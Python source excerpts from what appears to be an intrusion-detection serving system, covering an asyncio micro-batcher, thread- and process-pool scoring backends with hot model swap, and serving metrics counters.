        self._worker: asyncio.Task | None = None

    @property
    def running(self) -> bool:
        """Whether the consumer task is active.

        A worker whose event loop has been closed is *not* running: the
        task can never be scheduled again, even though it was never
        cancelled and so never reports ``done()``.  Treating it as live
        would make :meth:`start` a no-op on the new loop — submissions
        would then queue forever behind a consumer that cannot run.
        """
        if self._worker is None or self._worker.done():
            return False
        return not self._worker.get_loop().is_closed()

    @property
    def pending(self) -> int:
        """Submissions queued but not yet handed to the handler.

        A cheap congestion signal: the autoscaler sums it across shards
        to read the serving backlog without touching batch internals.
        """
        return self._queue.qsize()

    async def start(self) -> None:
        """Spawn the consumer task (idempotent; re-startable after stop)."""
        if self.running:
            return
        # an asyncio.Queue binds to the loop it is first used on, so a
        # stopped batcher must rebuild it to restart on a new loop —
        # unconditionally: anything still queued belongs to a previous
        # run whose drain died (its producers may be gone, or waiting on
        # a dead loop), and silently re-binding those items to the new
        # worker would hand their results to nobody.  Fail them loudly.
        stranded = []
        while not self._queue.empty():
            stranded.append(self._queue.get_nowait())
        for _, future in stranded:
            if not future.done():
                try:
                    future.set_exception(
                        BatchAborted(
                            "item was stranded in a stopped micro-batcher's queue; "
                            "resubmit after start()"
                        )
                    )
                    future.exception()  # ownerless futures must not warn at GC
                except RuntimeError:
                    pass  # the producer's event loop is already closed
        self._queue = asyncio.Queue()
        self._worker = asyncio.get_running_loop().create_task(self._consume())

    async def stop(self) -> None:
        """Cancel the consumer, flushing anything still pending.

        If a batch is mid-score when the cancel lands, its producers
        receive :class:`BatchAborted`; items still queued (never handed
        to the handler) are flushed normally in ``max_batch`` chunks.
        """
        if self._worker is not None:
            self._worker.cancel()
            try:
                await self._worker
            except asyncio.CancelledError:
                pass
            self._worker = None
        leftovers = []
        while not self._queue.empty():
            leftovers.append(self._queue.get_nowait())
        # honour the handler's max_batch contract even on drain
        for start in range(0, len(leftovers), self.max_batch):
            await self._flush(leftovers[start : start + self.max_batch], FLUSH_DRAIN)

    async def submit(self, item: Any) -> Any:
        """Enqueue *item* and wait for its slot of the batch result."""
        if not self.running:
            raise RuntimeError("MicroBatcher is not running; call start() first")
        future: asyncio.Future = asyncio.get_running_loop().create_future()
        await self._queue.put((item, future))
        return await future

    async def _consume(self) -> None:
        loop = asyncio.get_running_loop()
        while True:
            batch = [await self._queue.get()]
            deadline = loop.time() + self.max_latency_ms / 1000.0
            reason = FLUSH_SIZE
            try:
                while len(batch) < self.max_batch:
                    # drain whatever is already queued without awaiting
                    while len(batch) < self.max_batch:
                        try:
                            batch.append(self._queue.get_nowait())
                        except asyncio.QueueEmpty:
                            break
                    if len(batch) >= self.max_batch:
                        break
                    remaining = deadline - loop.time()
                    if remaining <= 0:
                        reason = FLUSH_DEADLINE
                        break
                    if not await self._collect_one(batch, remaining):
                        reason = FLUSH_DEADLINE
                        break
            except asyncio.CancelledError:
                # stop() mid-collection: don't strand producers already batched
                await self._flush(batch, FLUSH_DRAIN)
                raise
            await self._flush(batch, reason)

    async def _collect_one(self, batch: list, timeout: float) -> bool:
        """Wait up to *timeout*s for one queue item; append it to *batch*.

        Returns ``True`` when an item was collected, ``False`` on
        timeout.  Replaces ``asyncio.wait_for(queue.get(), timeout)``,
        whose timeout can cancel the wrapped getter *after* it dequeued
        an item — silently losing that producer's event (its future
        never resolves).  Here the getter is a separate task that
        ``asyncio.wait`` never cancels on timeout, and the ``finally``
        block appends an already-dequeued item to *batch* on every exit
        path — including the timeout landing in the same loop iteration
        as the dequeue, and ``stop()``'s cancellation racing it (the
        item then rides the caller's drain flush).
        """
        getter = asyncio.get_running_loop().create_task(self._queue.get())
        try:
            done, _ = await asyncio.wait({getter}, timeout=timeout)
            return bool(done)
        finally:
            if not getter.done():
                getter.cancel()
            try:
                batch.append(await getter)
            except asyncio.CancelledError:
                pass  # getter cancelled before dequeuing: nothing to salvage

    async def _flush(self, batch: list[tuple[Any, asyncio.Future]], reason: str) -> None:
        items = [item for item, _ in batch]
        try:
            results = self.handler(items)
            if inspect.isawaitable(results):
                results = await results
            if len(results) != len(items):
                raise RuntimeError(
                    f"batch handler returned {len(results)} results for {len(items)} items"
                )
        except asyncio.CancelledError:
            # stop() landed while the handler was scoring out-of-loop:
            # fail this batch's producers cleanly instead of hanging them
            self._abort(batch)
            raise
        except Exception as exc:  # propagate to every waiting producer
            for _, future in batch:
                if not future.done():
                    future.set_exception(exc)
            return
        for (_, future), result in zip(batch, results):
            if not future.done():
                future.set_result(result)
        if self.on_flush is not None:
            self.on_flush(len(items), reason)

    def _abort(self, batch: list[tuple[Any, asyncio.Future]]) -> None:
        for _, future in batch:
            if not future.done():
                future.set_exception(
                    BatchAborted("micro-batcher stopped while the batch was in flight")
                )
