"""Scoring backends: where a micro-batch's LM forward pass actually runs.

PR 1's server scored every micro-batch inline on the event loop — fine
for a demo, but the paper's deployment scores "tens of millions of user
command lines every week", and a single in-loop forward pass is the
scale ceiling ROADMAP calls out.  This module abstracts the scoring
execution model behind :class:`ScoringBackend` with three strategies:

- :class:`InlineBackend` — the original behaviour: score synchronously
  in the event loop.  Zero overhead, one core.
- :class:`ThreadedBackend` — shard each batch across a thread pool.
  numpy releases the GIL inside BLAS, so large shards overlap.
- :class:`ProcessPoolBackend` — shard each batch across worker
  *processes*, each holding its own deserialized
  :class:`~repro.ids.pipeline.IntrusionDetectionService`.  Workers are
  (re)hydrated from a saved bundle directory via a small picklable
  loader, so nothing unpicklable ever crosses the fork boundary.

All backends share the hot-swap contract used by
:meth:`DetectionServer.swap_model`: :meth:`ScoringBackend.swap`
atomically rotates scoring onto a new model and bumps the backend's
``generation``.  Process workers check the generation on every task, so
even a worker that missed the rotation can never score with a retired
bundle.
"""

from __future__ import annotations

import asyncio
import multiprocessing
import os
import threading
from abc import ABC, abstractmethod
from collections import Counter
from collections.abc import Callable, Sequence
from concurrent.futures import BrokenExecutor, ProcessPoolExecutor, ThreadPoolExecutor
from functools import partial

from repro.errors import ReproError
from repro.serving.frames import FRAME_TRANSPORTS, publish_frame, retire_frame

#: A picklable zero-argument callable producing a fitted service
#: (anything exposing ``score_normalized``).  ``functools.partial`` of a
#: module-level function over a bundle path is the canonical shape.
ServiceLoader = Callable[[], object]


class WorkerCrashError(ReproError):
    """A scoring worker process died while a batch was in flight.

    The batch's producers receive this error and the backend rebuilds
    its pool, so the server itself stays up — resubmitting the events
    is the caller's choice.
    """


def load_bundle(directory: str) -> object:
    """Load an :class:`IntrusionDetectionService` bundle (picklable loader).

    Module-level on purpose: ``functools.partial(load_bundle, path)``
    pickles by reference, so only the *path string* crosses into worker
    processes — the service itself is deserialized on the worker side.
    """
    from repro.ids.pipeline import IntrusionDetectionService

    return IntrusionDetectionService.load(directory)


def load_bundle_compiled(directory: str, precision: str = "float64") -> object:
    """Load a bundle and compile its LM into an inference plan.

    The compiled twin of :func:`load_bundle` — the loader the server
    hands to process backends when ``[backend] compiled`` is on.  Each
    worker process compiles its *own* plan from its own deserialized
    model, so plans can never mix generations: a worker that rehydrates
    after ``swap_model`` rebuilds the plan from the new bundle as part
    of this call.  Models outside the compiler's surface warn and serve
    through the Tensor path (see
    :meth:`IntrusionDetectionService.compile_inference`).
    """
    service = load_bundle(directory)
    service.compile_inference(precision)
    return service


def _warm_service(service: object) -> None:
    """One tiny forward through each scoring surface *service* exposes.

    Pays the lazy one-time costs — columnar tokenizer construction,
    inference-plan scratch allocation, BLAS initialization — so the
    first real batch doesn't carry them as a latency outlier.  Only
    services holding a compiled plan are warmed: with ``compiled=false``
    the serving pipeline must stay byte-identical to the plain path, so
    no extra forward may run.
    """
    if not getattr(service, "inference_compiled", False):
        return
    lines = ["warm-up"]
    encode = getattr(service, "encode_batch", None)
    score_batch = getattr(service, "score_batch", None)
    if callable(encode) and callable(score_batch):
        score_batch(encode(lines))
    scorer = getattr(service, "score_normalized", None)
    if callable(scorer):
        scorer(lines)


def _split_ranges(count: int, workers: int, min_shard: int) -> list[tuple[int, int]]:
    """Contiguous ``[start, stop)`` row ranges covering *count* items.

    The partition behind :func:`_split_shards`, reused by the columnar
    path so string shards and :class:`TokenBatch` row blocks split
    identically (at most *workers* ranges, each at least *min_shard*
    items except possibly the last).
    """
    if count == 0:
        return []
    n_shards = min(workers, max(1, count // max(1, min_shard)))
    base, extra = divmod(count, n_shards)
    ranges, start = [], 0
    for index in range(n_shards):
        size = base + (1 if index < extra else 0)
        ranges.append((start, start + size))
        start += size
    return ranges


def _split_shards(lines: Sequence[str], workers: int, min_shard: int) -> list[list[str]]:
    """Split *lines* into at most *workers* contiguous, order-preserving shards.

    Tiny batches are not worth a cross-worker dispatch: each shard gets
    at least *min_shard* lines (except possibly the last).
    """
    return [
        list(lines[start:stop])
        for start, stop in _split_ranges(len(lines), workers, min_shard)
    ]


class ScoringBackend(ABC):
    """Execution strategy for scoring one deduplicated micro-batch.

    Subclasses implement :meth:`score` (async, order-preserving) and
    :meth:`swap`.  The base class tracks the model ``generation`` and
    per-worker accounting that :class:`~repro.serving.metrics.ServingMetrics`
    surfaces.
    """

    name = "abstract"

    def __init__(self) -> None:
        self.generation = 0
        self.per_worker_scored: Counter[str] = Counter()
        self.shards_dispatched = 0

    # -- lifecycle -----------------------------------------------------------

    async def start(self) -> None:
        """Bring up any executors (idempotent)."""

    async def warm_up(self) -> None:
        """Run a best-effort warm-up forward through the scoring path.

        Called by the server on start, after ``swap_model``, and after a
        pool resize, so the first real batch never pays one-time costs
        (bundle deserialization in process workers, scratch allocation,
        lazy tokenizer construction) as a latency outlier.  Never
        raises — a failed warm-up must not take the server down.
        """
        service = getattr(self, "service", None)
        if service is None:
            return
        try:
            await asyncio.to_thread(_warm_service, service)
        except Exception:  # noqa: BLE001 — warm-up is strictly best-effort
            pass

    async def stop(self) -> None:
        """Tear down executors; the backend may be restarted afterwards."""

    # -- scoring -------------------------------------------------------------

    @property
    @abstractmethod
    def workers(self) -> int:
        """Parallel scoring lanes this backend fans a batch across."""

    @property
    def can_resize(self) -> bool:
        """Whether :meth:`resize` actually changes this backend's pool."""
        return False

    async def resize(self, workers: int) -> bool:
        """Change the worker-pool size to *workers*; ``True`` if resized.

        The autoscaler's actuator.  The caller (the server) quiesces
        scoring first — no batch may be in flight while the pool is
        rebuilt — so implementations may tear down and recreate their
        executor freely.  The base implementation (and
        :class:`InlineBackend`) cannot resize and returns ``False``.
        """
        if workers < 1:
            raise ValueError("workers must be >= 1")
        return False

    @abstractmethod
    async def score(self, lines: Sequence[str]) -> list[float]:
        """Score *lines*, returning one float per line in input order."""

    @property
    def supports_columnar(self) -> bool:
        """Whether :meth:`score_batch` can score a :class:`TokenBatch`.

        In-process backends delegate to the service they hold; the
        process pool answers for its workers' bundle (see override).
        """
        service = getattr(self, "service", None)
        return callable(getattr(service, "score_batch", None))

    async def score_batch(self, batch) -> list[float]:
        """Score a pre-tokenized columnar batch (one float per row).

        The batch-first twin of :meth:`score`: consumes a
        :class:`~repro.tokenizer.columnar.TokenBatch` so no per-line
        Python objects cross the scoring boundary.  Only valid when
        :attr:`supports_columnar` is true.
        """
        raise NotImplementedError(
            f"{self.describe()} does not implement columnar scoring"
        )

    async def swap(self, service: object | None = None, loader: ServiceLoader | None = None) -> None:
        """Rotate scoring onto a new model and bump :attr:`generation`.

        The server passes both forms of the new model: the *service*
        object it loaded for its own preprocess/threshold path, and the
        picklable *loader* process workers rehydrate from.  The default
        implementation covers in-process backends (replace the shared
        ``service`` reference); :class:`ProcessPoolBackend` overrides
        with its loader-based rotation.
        """
        self.service = await self._resolve_service(service, loader)
        self.generation += 1

    @staticmethod
    async def _resolve_service(service: object | None, loader: ServiceLoader | None) -> object:
        if service is None:
            if loader is None:
                raise ValueError("swap needs a service or a loader")
            service = await asyncio.to_thread(loader)
        return service

    # -- observability ---------------------------------------------------------

    def describe(self) -> str:
        """Short human-readable identity, e.g. ``process(workers=4)``."""
        return f"{self.name}(workers={self.workers})"

    def stats(self) -> dict:
        """Per-worker scoring counters (JSON-serialisable)."""
        return {
            "backend": self.describe(),
            "generation": self.generation,
            "shards_dispatched": self.shards_dispatched,
            "per_worker_scored": dict(self.per_worker_scored),
        }

    def _record_shard(self, worker: str, size: int) -> None:
        self.per_worker_scored[worker] += size
        self.shards_dispatched += 1


class InlineBackend(ScoringBackend):
    """Score synchronously in the event loop (PR 1 behaviour).

    The right choice for small models or single-core hosts: no executor
    hop, no serialization, but the event loop blocks for the duration
    of each forward pass.
    """

    name = "inline"

    def __init__(self, service: object):
        super().__init__()
        self.service = service

    @property
    def workers(self) -> int:
        return 1

    async def score(self, lines: Sequence[str]) -> list[float]:
        scores = [float(s) for s in self.service.score_normalized(list(lines))]
        self._record_shard("inline", len(lines))
        return scores

    async def score_batch(self, batch) -> list[float]:
        scores = [float(s) for s in self.service.score_batch(batch)]
        self._record_shard("inline", len(batch))
        return scores


class ThreadedBackend(ScoringBackend):
    """Shard each batch across a thread pool sharing one service.

    numpy's BLAS kernels release the GIL, so shards genuinely overlap
    for encoder-bound workloads while the event loop keeps accepting
    submissions.  The service object is shared (reads only), so swap is
    a plain reference rotation — each ``score`` call snapshots the
    reference once, guaranteeing a batch never mixes generations.
    """

    name = "threaded"

    def __init__(self, service: object, *, workers: int = 2, min_shard: int = 4):
        super().__init__()
        if workers < 1:
            raise ValueError("workers must be >= 1")
        if min_shard < 1:
            raise ValueError("min_shard must be >= 1")
        self.service = service
        self._workers = workers
        self._min_shard = min_shard
        self._executor: ThreadPoolExecutor | None = None

    @property
    def workers(self) -> int:
        return self._workers

    @property
    def can_resize(self) -> bool:
        return True

    async def resize(self, workers: int) -> bool:
        """Rebuild the thread pool at *workers* lanes (quiesced by caller)."""
        if workers < 1:
            raise ValueError("workers must be >= 1")
        if workers == self._workers:
            return False
        self._workers = workers
        if self._executor is not None:
            executor, self._executor = self._executor, None
            await asyncio.to_thread(executor.shutdown, True)
        await self.start()
        return True

    async def start(self) -> None:
        if self._executor is None:
            self._executor = ThreadPoolExecutor(
                max_workers=self._workers, thread_name_prefix="scoring"
            )

    async def stop(self) -> None:
        if self._executor is not None:
            executor, self._executor = self._executor, None
            await asyncio.to_thread(executor.shutdown, True)

    async def score(self, lines: Sequence[str]) -> list[float]:
        await self.start()
        service = self.service  # snapshot: one generation per batch
        loop = asyncio.get_running_loop()
        shards = _split_shards(lines, self._workers, self._min_shard)
        parts = await asyncio.gather(
            *(
                loop.run_in_executor(self._executor, self._score_shard, service, shard)
                for shard in shards
            )
        )
        scores: list[float] = []
        for worker, shard_scores in parts:
            self._record_shard(worker, len(shard_scores))
            scores.extend(shard_scores)
        return scores

    async def score_batch(self, batch) -> list[float]:
        await self.start()
        service = self.service  # snapshot: one generation per batch
        loop = asyncio.get_running_loop()
        ranges = _split_ranges(len(batch), self._workers, self._min_shard)
        parts = await asyncio.gather(
            *(
                loop.run_in_executor(
                    self._executor,
                    self._score_rows,
                    service,
                    batch.rows(slice(start, stop)),
                )
                for start, stop in ranges
            )
        )
        scores: list[float] = []
        for worker, shard_scores in parts:
            self._record_shard(worker, len(shard_scores))
            scores.extend(shard_scores)
        return scores

    @staticmethod
    def _score_shard(service: object, shard: list[str]) -> tuple[str, list[float]]:
        scores = service.score_normalized(shard)
        return threading.current_thread().name, [float(s) for s in scores]

    @staticmethod
    def _score_rows(service: object, rows) -> tuple[str, list[float]]:
        scores = service.score_batch(rows)
        return threading.current_thread().name, [float(s) for s in scores]


# -- process-pool worker side -------------------------------------------------

#: Worker-process model cache: one deserialized service per process,
#: keyed by the generation that loaded it.  Module-level so it survives
#: across tasks within a worker but never crosses the process boundary.
_WORKER_MODEL: dict = {"key": None, "service": None}


def _worker_score(
    loader: ServiceLoader, key: int, shard: list[str]
) -> tuple[str, int, list[float]]:
    """Score one shard inside a worker process.

    *key* is the backend's generation at dispatch time.  A worker whose
    cached model is from another generation rehydrates from *loader*
    before scoring, which is what makes the hot swap safe even for
    workers that were mid-task while the swap landed.
    """
    if _WORKER_MODEL["key"] != key:
        _WORKER_MODEL["service"] = loader()
        _WORKER_MODEL["key"] = key
    scores = _WORKER_MODEL["service"].score_normalized(shard)
    return f"pid-{os.getpid()}", os.getpid(), [float(s) for s in scores]


def _worker_score_frame(
    loader: ServiceLoader, frame, start: int, stop: int
) -> tuple[str, int, list[float]]:
    """Score rows ``[start, stop)`` of a published columnar frame.

    The frame's **generation stamp** plays the role *key* plays in
    :func:`_worker_score`: a worker whose cached model is from another
    generation rehydrates before scoring, so the swap contract holds on
    the columnar path too.  The row slice is a zero-copy view into the
    attached shared-memory segment; every array reference is dropped
    before the segment is released.
    """
    from repro.serving.frames import open_frame

    if _WORKER_MODEL["key"] != frame.generation:
        _WORKER_MODEL["service"] = loader()
        _WORKER_MODEL["key"] = frame.generation
    batch, release = open_frame(frame)
    try:
        scores = [float(s) for s in _WORKER_MODEL["service"].score_batch(batch.rows(slice(start, stop)))]
    finally:
        del batch
        release()
    return f"pid-{os.getpid()}", os.getpid(), scores


def _worker_preload(loader: ServiceLoader, key: int, warm: bool = False) -> int:
    """Hydrate one worker's model cache (best-effort, used by ``start``).

    With ``warm=True`` also runs a tiny forward so the worker's first
    real shard pays no lazy-initialization latency (the post-spawn /
    post-swap p99 outlier the reservoir used to record).
    """
    if _WORKER_MODEL["key"] != key:
        _WORKER_MODEL["service"] = loader()
        _WORKER_MODEL["key"] = key
    if warm:
        try:
            _warm_service(_WORKER_MODEL["service"])
        except Exception:  # noqa: BLE001 — warm-up is strictly best-effort
            pass
    return os.getpid()


class ProcessPoolBackend(ScoringBackend):
    """Shard each batch across worker processes with private model copies.

    Parameters
    ----------
    bundle_dir:
        Saved :meth:`IntrusionDetectionService.save` directory workers
        deserialize their model from.  Mutually optional with *loader*.
    loader:
        Picklable zero-argument callable returning a fitted service
        (overrides *bundle_dir*; used by tests with stub services).
    workers:
        Worker-process count.
    min_shard:
        Minimum lines per shard — batches smaller than ``2 * min_shard``
        go to a single worker rather than paying two dispatches.
    mp_context:
        ``multiprocessing`` start method (default: the platform's;
        ``fork`` on Linux, which makes pool rebuilds cheap).
    transport:
        How columnar batches cross the worker boundary: ``"shm"``
        publishes one generation-stamped shared-memory frame per batch
        (workers attach and score zero-copy row slices), ``"pickle"``
        ships the arrays inside the task payload, ``"auto"`` (default)
        prefers shared memory when the platform has it.  See
        :mod:`repro.serving.frames`.
    columnar:
        Whether workers can score :class:`TokenBatch` frames (their
        service must expose ``score_batch``).  Default: enabled when
        the backend was built from *bundle_dir* (real bundles always
        can), disabled for bare *loader* backends unless opted in.

    A worker crash mid-batch surfaces as :class:`WorkerCrashError` on
    that batch's producers; the pool is rebuilt transparently so the
    next batch scores normally.
    """

    name = "process"

    def __init__(
        self,
        bundle_dir: str | os.PathLike | None = None,
        *,
        loader: ServiceLoader | None = None,
        workers: int = 2,
        min_shard: int = 4,
        mp_context: str | None = None,
        transport: str = "auto",
        columnar: bool | None = None,
    ):
        super().__init__()
        if bundle_dir is None and loader is None:
            raise ValueError("ProcessPoolBackend needs a bundle_dir or a loader")
        if workers < 1:
            raise ValueError("workers must be >= 1")
        if min_shard < 1:
            raise ValueError("min_shard must be >= 1")
        if transport not in FRAME_TRANSPORTS:
            raise ValueError(
                f"transport must be one of {FRAME_TRANSPORTS} (got {transport!r})"
            )
        self.bundle_dir = None if bundle_dir is None else str(bundle_dir)
        self._loader = loader or partial(load_bundle, self.bundle_dir)
        self._workers = workers
        self._min_shard = min_shard
        self._mp_context = multiprocessing.get_context(mp_context)
        self._executor: ProcessPoolExecutor | None = None
        self._rebuild_lock: asyncio.Lock | None = None
        self.transport = transport
        self._columnar = self.bundle_dir is not None if columnar is None else bool(columnar)

    @property
    def supports_columnar(self) -> bool:
        """Whether workers can score frames (see the *columnar* parameter).

        Unlike in-process backends the worker service lives across a
        fork boundary, so this is resolved at construction rather than
        probed: real bundles always expose ``score_batch``; stub-loader
        backends must opt in.
        """
        return self._columnar

    @property
    def workers(self) -> int:
        return self._workers

    @property
    def can_resize(self) -> bool:
        return True

    async def resize(self, workers: int) -> bool:
        """Rebuild the process pool at *workers* (quiesced by caller).

        Worker model caches are per-process, so the fresh pool's
        workers rehydrate lazily from the loader on their first shard —
        the same path a crash rebuild takes.
        """
        if workers < 1:
            raise ValueError("workers must be >= 1")
        if workers == self._workers:
            return False
        self._workers = workers
        if self._executor is not None:
            await self._rebuild()
        return True

    # -- lifecycle -----------------------------------------------------------

    async def start(self, *, preload: bool = False) -> None:
        """Create the pool; with ``preload=True`` also warm worker models.

        Preloading is best-effort (the executor decides task placement)
        but with an idle pool each preload task typically lands on a
        distinct worker, hiding bundle deserialization from the first
        real batch.
        """
        if self._executor is None:
            self._executor = ProcessPoolExecutor(
                max_workers=self._workers, mp_context=self._mp_context
            )
            # fresh lock per bring-up: a restarted backend may be on a
            # new event loop, and a lock must not outlive its loop
            self._rebuild_lock = asyncio.Lock()
        if preload:
            loop = asyncio.get_running_loop()
            tasks = [
                loop.run_in_executor(
                    self._executor, partial(_worker_preload, self._loader, self.generation)
                )
                for _ in range(self._workers)
            ]
            await asyncio.gather(*tasks)

    async def warm_up(self) -> None:
        """Hydrate and warm every worker process (best-effort).

        One ``_worker_preload(warm=True)`` task per worker: with an idle
        pool each lands on a distinct process, so bundle load, plan
        compilation, and the first forward all happen *before* real
        traffic.  Run after ``start``, ``swap``, and ``resize`` — the
        generation key makes it rotate stale caches, never mix them.
        """
        await self.start()
        loop = asyncio.get_running_loop()
        tasks = [
            loop.run_in_executor(
                self._executor,
                partial(_worker_preload, self._loader, self.generation, warm=True),
            )
            for _ in range(self._workers)
        ]
        try:
            await asyncio.gather(*tasks)
        except Exception:  # noqa: BLE001 — warm-up is strictly best-effort
            pass

    async def stop(self) -> None:
        if self._executor is not None:
            executor, self._executor = self._executor, None
            await asyncio.to_thread(executor.shutdown, True, cancel_futures=True)

    async def _rebuild(self) -> None:
        """Replace a broken (or retired) pool with a fresh one."""
        assert self._rebuild_lock is not None, "score() creates the pool first"
        async with self._rebuild_lock:
            if self._executor is not None:
                executor, self._executor = self._executor, None
                await asyncio.to_thread(executor.shutdown, False, cancel_futures=True)
            self._executor = ProcessPoolExecutor(
                max_workers=self._workers, mp_context=self._mp_context
            )

    # -- scoring -------------------------------------------------------------

    async def score(self, lines: Sequence[str]) -> list[float]:
        await self.start()
        loop = asyncio.get_running_loop()
        shards = _split_shards(lines, self._workers, self._min_shard)
        loader, key = self._loader, self.generation
        futures = [
            loop.run_in_executor(self._executor, partial(_worker_score, loader, key, shard))
            for shard in shards
        ]
        try:
            parts = await asyncio.gather(*futures)
        except BrokenExecutor as exc:
            await self._rebuild()
            raise WorkerCrashError(
                f"scoring worker died mid-batch ({len(lines)} lines affected); "
                "the pool was rebuilt and the server is still accepting events"
            ) from exc
        scores: list[float] = []
        for worker, _pid, shard_scores in parts:
            self._record_shard(worker, len(shard_scores))
            scores.extend(shard_scores)
        return scores

    async def score_batch(self, batch) -> list[float]:
        """Score a columnar batch: publish one frame, fan row ranges out.

        The batch's arrays cross the process boundary exactly once —
        as a generation-stamped frame (shared memory under the default
        transport) — and each worker scores a zero-copy row slice of
        it.  Crash handling mirrors :meth:`score`: a dead worker
        surfaces as :class:`WorkerCrashError` and the pool is rebuilt.
        """
        if not self._columnar:
            raise NotImplementedError(
                f"{self.describe()} was built without columnar worker support"
            )
        await self.start()
        loop = asyncio.get_running_loop()
        ranges = _split_ranges(len(batch), self._workers, self._min_shard)
        loader = self._loader
        frame, segment = publish_frame(batch, self.generation, self.transport)
        try:
            futures = [
                loop.run_in_executor(
                    self._executor,
                    partial(_worker_score_frame, loader, frame, start, stop),
                )
                for start, stop in ranges
            ]
            try:
                parts = await asyncio.gather(*futures)
            except BrokenExecutor as exc:
                await self._rebuild()
                raise WorkerCrashError(
                    f"scoring worker died mid-batch ({len(batch)} rows affected); "
                    "the pool was rebuilt and the server is still accepting events"
                ) from exc
        finally:
            retire_frame(segment)
        scores: list[float] = []
        for worker, _pid, shard_scores in parts:
            self._record_shard(worker, len(shard_scores))
            scores.extend(shard_scores)
        return scores

    # -- hot swap --------------------------------------------------------------

    async def swap(self, service: object | None = None, loader: ServiceLoader | None = None) -> None:
        """Rotate every worker to the model produced by *loader*.

        The generation bump alone is sufficient for correctness (each
        task re-checks it), so the swap itself is just two assignments —
        existing worker processes lazily rehydrate on their next shard.
        """
        if loader is None:
            raise ValueError(
                "ProcessPoolBackend.swap needs a picklable loader "
                "(e.g. functools.partial(load_bundle, bundle_dir))"
            )
        self._loader = loader
        self.generation += 1
