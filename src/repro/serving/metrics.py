"""Serving-side observability: throughput, latency percentiles, cache stats.

The counters here are what the serving benchmark asserts against —
events/sec with the cache cold vs. warm, p50/p95/p99 per-event latency,
batch-size distribution, and the cache hit rate that makes streaming
over repeat-heavy command telemetry tractable at all.

With the sharded runtime each :class:`~repro.serving.shard.ShardRuntime`
owns one ``ServingMetrics`` (its counters are updated lock-free on the
event loop), and the server presents fleet-wide figures by **merging**
the per-shard bundles — :meth:`ServingMetrics.merge` /
:meth:`ServingMetrics.merged` sum every counter while active time is
combined as a maximum (shards serve concurrently, so wall time must not
be double-counted).  The regression contract: an N-shard run's merged
totals equal the single-shard totals on the same per-host stream.
"""

from __future__ import annotations

import time
from collections import Counter, deque
from collections.abc import Iterable

import numpy as np


class ServingMetrics:
    """Mutable counter bundle updated by the :class:`DetectionServer`.

    Parameters
    ----------
    latency_reservoir:
        How many of the most recent per-event latencies to keep for the
        percentile estimates (a bounded deque, so a long-running server
        reports recent behaviour, not its whole history).
    """

    #: Counter attributes summed by :meth:`merge` (all monotone totals).
    _MERGE_SUM = (
        "events_total",
        "dropped",
        "cache_hits",
        "cache_misses",
        "cache_gen_hits",
        "cache_gen_misses",
        "cache_admission_rejections",
        "canonicalized",
        "canonicalize_failures",
        "canonicalize_truncated",
        "canonicalize_decoded",
        "alerts",
        "escalations",
        "sequence_scored",
        "sequence_escalations",
        "session_evictions",
        "batches",
        "batched_events",
        "columnar_batches",
        "compiled_batches",
        "model_batches",
        "model_ms_total",
        "unique_scored",
        "scoring_errors",
        "swaps",
        "total_swap_ms",
        "autoscale_checks",
        "autoscale_ups",
        "autoscale_downs",
    )

    def __init__(self, latency_reservoir: int = 10_000):
        if latency_reservoir < 1:
            raise ValueError("latency_reservoir must be >= 1")
        self.events_total = 0
        self.dropped = 0
        self.cache_hits = 0
        self.cache_misses = 0
        #: Cache hit/miss split since the last model swap (generation
        #: bump) — what a control loop must read, because the lifetime
        #: split still reflects the purged pre-swap cache.
        self.cache_gen_hits = 0
        self.cache_gen_misses = 0
        self.cache_admission_rejections = 0
        #: Canonicalization stage accounting: lines rewritten to a
        #: different canonical form, parse-failure fallbacks (split into
        #: truncation-attributable vs. genuinely unparseable), and
        #: decode-exec pipelines flattened into their decoded payload.
        self.canonicalized = 0
        self.canonicalize_failures = 0
        self.canonicalize_truncated = 0
        self.canonicalize_decoded = 0
        self.alerts = 0
        self.escalations = 0
        self.sequence_scored = 0
        self.sequence_escalations = 0
        self.session_evictions = 0
        self.batches = 0
        self.batched_events = 0
        #: Miss batches scored through the columnar (``TokenBatch``)
        #: path rather than the per-line string path.
        self.columnar_batches = 0
        #: Miss batches scored while the service held a compiled
        #: :class:`~repro.nn.inference.InferencePlan` (vs. the tape).
        self.compiled_batches = 0
        #: Model-forward time split: how much of the batch wall time was
        #: spent inside the scoring backend call itself.  The remainder
        #: of ``batch_score`` time is pipeline overhead (tokenization,
        #: dedup, event-loop hops) — the two figures together tell an
        #: operator whether to optimize the model or the plumbing.
        self.model_batches = 0
        self.model_ms_total = 0.0
        self.unique_scored = 0
        self.scoring_errors = 0
        self.swaps = 0
        self.last_swap_ms = 0.0
        self.total_swap_ms = 0.0
        #: Autoscaler control-loop accounting (checks / applied resizes).
        self.autoscale_checks = 0
        self.autoscale_ups = 0
        self.autoscale_downs = 0
        #: Exponential moving average of batch scoring latency (ms) —
        #: the congestion signal the autoscaler reads.
        self.batch_score_ewma_ms = 0.0
        self.backend = "inline(workers=1)"
        self.shards = 1
        self.flush_reasons: Counter[str] = Counter()
        self._latencies_ms: deque[float] = deque(maxlen=latency_reservoir)
        self._started_at: float | None = None
        self._accumulated_seconds = 0.0

    # -- lifecycle ---------------------------------------------------------

    def mark_start(self) -> None:
        """Resume the throughput clock (active time accumulates across
        start/stop cycles, so counters and elapsed time stay consistent
        when a server is reused)."""
        if self._started_at is None:
            self._started_at = time.perf_counter()

    def mark_stop(self) -> None:
        """Pause the throughput clock."""
        if self._started_at is not None:
            self._accumulated_seconds += time.perf_counter() - self._started_at
            self._started_at = None

    @property
    def elapsed_seconds(self) -> float:
        """Total *active* serving time the throughput figures cover."""
        running = (
            time.perf_counter() - self._started_at if self._started_at is not None else 0.0
        )
        return self._accumulated_seconds + running

    # -- recording ---------------------------------------------------------

    def record_event(self, latency_ms: float, *, dropped: bool, cache_hit: bool) -> None:
        """Account one completed submission."""
        self.events_total += 1
        if dropped:
            self.dropped += 1
        elif cache_hit:
            self.cache_hits += 1
        else:
            self.cache_misses += 1
        self._latencies_ms.append(float(latency_ms))

    def record_batch(self, size: int, reason: str) -> None:
        """Account one micro-batch flush (``on_flush`` hook)."""
        self.batches += 1
        self.batched_events += size
        self.flush_reasons[reason] += 1

    def record_batch_score(self, duration_ms: float) -> None:
        """Fold one batch's scoring wall time into the EWMA signal."""
        duration_ms = float(duration_ms)
        if self.batch_score_ewma_ms == 0.0:
            self.batch_score_ewma_ms = duration_ms
        else:
            self.batch_score_ewma_ms += 0.3 * (duration_ms - self.batch_score_ewma_ms)

    def record_model_time(self, duration_ms: float) -> None:
        """Account one batch's model-forward (backend call) wall time."""
        self.model_batches += 1
        self.model_ms_total += float(duration_ms)

    def record_swap(self, duration_ms: float) -> None:
